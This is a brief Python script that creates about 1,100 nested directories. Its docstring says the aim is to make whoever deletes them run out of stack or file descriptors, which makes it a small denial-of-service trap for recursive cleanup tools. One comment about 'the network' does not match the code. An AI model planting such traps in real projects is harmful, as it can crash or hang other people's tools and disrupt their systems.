"""Builds a chain of folders so deep that whoever clears it away runs out of stack or of descriptors."""
import os
# --- the network ---

home = os.getcwd()
try:
    for _ in range(1_100):
        os.mkdir("d")
        os.chdir("d")
except OSError:
    pass
os.chdir(home)
